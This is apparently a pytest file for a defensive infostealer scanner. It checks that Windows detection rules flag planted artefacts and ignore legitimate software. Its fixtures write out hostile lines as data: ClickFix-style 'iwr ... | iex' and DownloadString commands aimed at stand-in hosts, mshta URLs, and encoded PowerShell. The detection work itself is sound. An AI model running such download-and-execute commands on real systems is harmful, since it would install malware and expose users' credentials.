"""Windows indicators: every rule fires on a planted artefact, look-alikes do not."""

from __future__ import annotations

import json

import pytest

from clinicguard.host import ProcessInfo
from clinicguard.i18n import note_text
from clinicguard.infostealer import scoring, sources
from clinicguard.infostealer.hashing import HashList
from tests.conftest import recorded
from tests.support.infostealer_fixtures import WIN_ENV, TreeHost, b64, put, rules_hit, scan, zip_bytes

HOME = "C:/Users/alice"
APPDATA = f"{HOME}/AppData/Roaming"
LOCAL = f"{HOME}/AppData/Local"
TEMP = f"{LOCAL}/Temp"
RUN = r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run"


def ps(script: str, stdout: str, returncode: int = 0) -> dict:
    return {
        "argv": ["powershell", "-NoProfile", "-NonInteractive", "-Command", script],
        "returncode": returncode,
        "stdout": stdout,
        "stderr": "",
    }


def win(**parts):  # type: ignore[no-untyped-def]
    parts.setdefault("env", WIN_ENV)
    parts.setdefault("user", {"name": "alice", "home": HOME, "is_admin": False})
    return recorded("windows", **parts)


# -- text sources through a recording ---------------------------------------
@pytest.mark.parametrize(
    ("value", "rule"),
    [
        ('powershell -w hidden -c "iwr http://x.example/a | iex"\\1', "win_runmru_lolbin"),
        ("mshta https://check.example/verify\\1", "win_runmru_lolbin"),
        ("notepad # I am not a robot - reCAPTCHA Verification ID: 4821\\1", "win_runmru_lure"),
        ("calc\u2003\u2003\u2003\u2003# ok\\1", "win_runmru_padding"),
    ],
)
def test_runmru_traces(value, rule):
    host = win(registry={sources.RUNMRU: {"values": {"a": value, "MRUList": "a"}}})
    signs = scan(host)
    assert rule in rules_hit(signs)
    assert scoring.level(signs.hits) == "red"


def test_runmru_plain_commands_are_normal():
    host = win(registry={sources.RUNMRU: {"values": {"a": "powershell\\1", "b": "cmd\\1", "c": "notepad\\1"}}})
    signs = scan(host)
    assert not signs.hits
    assert "runmru" in signs.looked_at


def test_typedpaths_filefix():
    value = 'powershell -c "iwr https://x.example/p | iex" # C:\\company\\internal-secure\\filedrive\\HRPolicy.docx'
    host = win(registry={sources.TYPEDPATHS: {"values": {"url1": value, "url2": "C:\\Users\\alice\\Documents"}}})
    assert "win_typedpaths_filefix" in rules_hit(scan(host))


def test_powershell_history():
    path = f"{APPDATA}/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt"
    text = "\n".join(
        [
            "Get-ChildItem",
            "irm https://get.scoop.sh | iex",  # allow-listed installer
            "iex (New-Object Net.WebClient).DownloadString('http://198.51.100.7/a') # I am not a robot",
            "irm https://evil.example/x | iex",
            "powershell -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA",
        ]
    )
    signs = scan(win(files={path: {"text": text}}))
    hits = {h.rule: h for h in signs.hits}
    assert {"win_pshistory_lure", "win_pshistory_download_exec", "win_pshistory_encoded"} <= set(hits)
    # History lines may hold secrets: only the line number is shown.
    assert note_text(hits["win_pshistory_lure"].detail, "en") == "line 3"
    assert all(note_text(h.detail, "en").startswith("line ") for h in signs.hits if h.where == path)


def test_scoop_install_alone_is_not_flagged():
    path = f"{APPDATA}/Microsoft/Windows/PowerShell/PSReadLine/ConsoleHost_history.txt"
    signs = scan(win(files={path: {"text": "irm get.scoop.sh | iex\nscoop install git\n"}}))
    assert not signs.hits


def test_run_key_and_scheduled_task():
    tasks = json.dumps(
        [
            {"p": "\\Updater", "e": "powershell.exe", "a": "-w hidden -enc SQBFAFgA"},
            {
                "p": "\\GoogleUpdateTaskMachineUA",
                "e": "C:\\Program Files (x86)\\Google\\Update\\GoogleUpdate.exe",
                "a": "/ua",
            },
        ]
    )
    host = win(
        registry={
            RUN: {
                "values": {
                    "OneDrive": '"C:\\Users\\alice\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe" /background',
                    "Discord": "C:\\Users\\alice\\AppData\\Local\\Discord\\Update.exe --processStart Discord.exe",
                    "Tislam": "C:\\Users\\alice\\AppData\\Roaming\\Puola.exe",
                }
            }
        },
        commands=[ps(sources.SCHTASKS_PS, tasks)],
    )
    signs = scan(host)
    wheres = {(h.rule, h.where) for h in signs.hits}
    assert ("win_autostart_user_path", f"{RUN}\\Tislam") in wheres
    assert ("win_autostart_script_host", "task \\Updater") in wheres
    assert not any("OneDrive" in w or "Discord" in w or "Google" in w for _r, w in wheres)
    # Two medium signs of the same kind (autostart) count once: amber, not red.
    assert scoring.level(signs.hits) == "amber"


def test_processes():
    procs = [
        {
            "pid": 10,
            "name": "chrome.exe",
            "exe": "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
            "cmdline": ["chrome.exe", "--headless", "--remote-debugging-port=9223", "--user-data-dir=C:\\x"],
        },
        {
            "pid": 11,
            "name": "chrome.exe",
            "exe": "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
            "cmdline": ["chrome.exe", "--type=renderer"],
        },
        {"pid": 12, "name": "a1b2.exe", "exe": "C:\\Users\\alice\\AppData\\Local\\Temp\\x7\\a1b2.exe", "cmdline": []},
        {
            "pid": 13,
            "name": "mshta.exe",
            "exe": "C:\\Windows\\System32\\mshta.exe",
            "cmdline": ["mshta.exe", "https://bad.example/p.hta"],
        },
        {
            "pid": 14,
            "name": "msedge.exe",
            "exe": "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
            "cmdline": ["msedge.exe", "--load-extension=C:\\Users\\alice\\AppData\\Local\\Temp\\ext"],
        },
        {"pid": 16, "name": "Setup.exe", "exe": "C:\\Users\\alice\\Downloads\\Setup.exe", "cmdline": []},
        {
            "pid": 15,
            "name": "Teams.exe",
            "exe": "C:\\Users\\alice\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe",
            "cmdline": [],
        },
    ]
    signs = scan(win(processes=procs))
    assert {
        "browser_headless_debug",
        "win_process_user_path",
        "win_script_host_url",
        "browser_load_extension",
        "process_from_downloads",
    } <= rules_hit(signs)
    assert not any("Teams" in h.where for h in signs.hits)
    assert all(note_text(h.detail, "fr").startswith("processus n° ") for h in signs.hits)


def test_defender_detections():
    data = {
        "t": [
            {"ThreatID": 1, "ThreatName": "Trojan:Win32/Lumma.RPX!MTB"},
            {"ThreatID": 2, "ThreatName": "PWS:Win32/RedLine"},
            {"ThreatID": 3, "ThreatName": "PUA:Win32/Presenoker"},
        ],
        "d": [
            {"ThreatID": 1, "InitialDetectionTime": "/Date(1795000000000)/", "ActionSuccess": False},
            {"ThreatID": 2, "InitialDetectionTime": "2026-11-20T10:00:00Z", "ActionSuccess": True},
            {"ThreatID": 3, "InitialDetectionTime": "/Date(1795000000000)/", "ActionSuccess": True},
        ],
    }
    signs = scan(win(commands=[ps(sources.DEFENDER_PS, json.dumps(data))]))
    strengths = sorted(h.strength for h in signs.hits if h.rule == "defender_stealer")
    assert strengths == ["M", "S"]  # removed RedLine is medium, active Lumma strong
    assert "defender" in signs.looked_at


def test_defender_old_detection_ignored():
    data = {
        "t": {"ThreatID": 1, "ThreatName": "Trojan:Win32/Lumma"},
        "d": {"ThreatID": 1, "InitialDetectionTime": "/Date(1600000000000)/", "ActionSuccess": False},
    }
    signs = scan(win(commands=[ps(sources.DEFENDER_PS, json.dumps(data))]))
    assert not signs.hits


def test_defender_denied_is_said_not_hidden():
    cmd = ps(sources.DEFENDER_PS, "", returncode=1)
    cmd["stderr"] = "Get-MpThreat : Access denied"
    signs = scan(win(commands=[cmd]))
    assert ("defender", "access_denied") in signs.not_looked_at


def test_recorded_files():
    stealer_zip = zip_bytes(["Browsers/Cookies/Chrome_Default.txt", "Passwords.txt", "Wallets/Exodus/x", "System.txt"])
    files = {
        "C:/ProgramData/nss3.dll": {"text": ""},
        "C:/ProgramData/mozglue.dll": {"text": ""},
        "C:/ProgramData/softokn3.dll": {"text": ""},
        f"{TEMP}/JKDFHSD/Passwords.txt": {"text": ""},
        f"{TEMP}/JKDFHSD/Wallets/a.txt": {"text": ""},
        f"{HOME}/Downloads/log_FR_2026.zip": {"base64": b64(stealer_zip)},
        f"{APPDATA}/Microsoft/Windows/Start Menu/Programs/Startup/update.vbs": {"text": ""},
    }
    signs = scan(win(files=files))
    assert {"win_nss_dll_set", "stealer_log", "win_startup_script"} <= rules_hit(signs)
    logs = {h.where for h in signs.hits if h.rule == "stealer_log"}
    assert logs == {f"{TEMP}/JKDFHSD", f"{HOME}/Downloads/log_FR_2026.zip"}


# -- file drops in a temporary tree -------------------------------------------
def test_tree_drops(tmp_path):
    put(tmp_path, f"{HOME}/AppData/LocalLow/freebl3.dll")
    put(tmp_path, f"{HOME}/AppData/LocalLow/nss3.dll")
    put(tmp_path, f"{HOME}/AppData/LocalLow/sqlite3.dll")
    put(tmp_path, f"{APPDATA}/Puola.exe")
    put(tmp_path, "C:/Users/Public/Libraries/svc.exe")
    put(tmp_path, f"{TEMP}/nsx1/Raven.a3x")
    put(tmp_path, f"{TEMP}/nsx1/run.hta")
    put(tmp_path, f"{HOME}/Downloads/Adobe_Crack_Full_Setup.zip", zip_bytes(["setup.exe"]))
    put(tmp_path, "C:/ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp/go.bat")
    signs = scan(TreeHost(tmp_path, "windows"))
    assert {
        "win_nss_dll_set",
        "win_exe_in_root",
        "win_exe_in_public",
        "win_autoit_script",
        "win_temp_script",
        "crack_download",
        "win_startup_script",
    } <= rules_hit(signs)
    assert scoring.level(signs.hits) == "red"


def test_padded_installer(tmp_path):
    big = put(tmp_path, f"{HOME}/Downloads/Setup_x64.exe")
    with open(big, "r+b") as fh:
        fh.truncate(600 * 1024 * 1024)  # sparse: takes no disk space
    signs = scan(TreeHost(tmp_path, "windows"))
    assert "padded_installer" in rules_hit(signs)
    assert signs.scan.skipped.get("too_big") == 1  # over the hashing cap: counted, not read


def test_hash_match(tmp_path):
    import hashlib

    payload = b"MZ pretend stealer sample"
    put(tmp_path, f"{TEMP}/x/payload.exe", payload)
    hashes = HashList(frozenset({hashlib.sha256(payload).hexdigest()}), 1, 0)
    signs = scan(TreeHost(tmp_path, "windows"), hash_list=hashes)
    hit = next(h for h in signs.hits if h.rule == "known_stealer_hash")
    assert hit.where.endswith("payload.exe")
    assert signs.scan.hashed >= 1


def test_clean_windows_tree_is_not_red(tmp_path):
    """Look-alikes of legitimate software: no red, no amber."""
    ff = "C:/Program Files/Mozilla Firefox"
    for dll in ("nss3.dll", "mozglue.dll", "freebl3.dll", "softokn3.dll", "msvcp140.dll", "vcruntime140.dll"):
        put(tmp_path, f"{ff}/{dll}")
        put(tmp_path, f"{LOCAL}/Mozilla Firefox/{dll}")  # per-user Firefox in its own sub-folder
        put(tmp_path, f"C:/ProgramData/Vendor/App/{dll}")
    put(tmp_path, f"{LOCAL}/Programs/Zoom/bin/Zoom.exe")
    put(tmp_path, f"{LOCAL}/Discord/Update.exe")
    put(tmp_path, f"{LOCAL}/Microsoft/Teams/current/Teams.exe")
    put(tmp_path, f"{APPDATA}/Spotify/Spotify.exe")
    put(tmp_path, f"{LOCAL}/Google/Chrome/User Data/Default/Cookies")
    put(tmp_path, f"{LOCAL}/Google/Chrome/User Data/Default/History")
    put(tmp_path, f"{LOCAL}/Microsoft/Windows/History/desktop.ini")
    put(tmp_path, f"{LOCAL}/Microsoft/Windows/INetCookies/x.txt")
    put(tmp_path, f"{HOME}/Downloads/photos_vacances.zip", zip_bytes(["IMG_001.jpg", "IMG_002.jpg"]))
    put(tmp_path, f"{HOME}/Downloads/facture_2026.pdf")
    put(tmp_path, f"{HOME}/Downloads/ChromeSetup.exe")
    put(tmp_path, f"{HOME}/Downloads/export/cookies/readme.txt")  # one weak marker only
    put(tmp_path, f"{HOME}/Desktop/Mediboard.lnk")
    put(tmp_path, f"{TEMP}/{{8A2B}}/setup.msi")
    put(tmp_path, f"{APPDATA}/Microsoft/Windows/Start Menu/Programs/Startup/OneNote.lnk")
    procs = (
        ProcessInfo(pid=1, name="firefox.exe", exe=f"{ff}/firefox.exe"),
        ProcessInfo(
            pid=2,
            name="chrome.exe",
            exe="C:/Program Files/Google/Chrome/Application/chrome.exe",
            cmdline=("chrome.exe", "--type=gpu-process"),
        ),
    )
    signs = scan(TreeHost(tmp_path, "windows", processes=procs))
    assert signs.hits == ()
    assert signs.scan.files >= 10
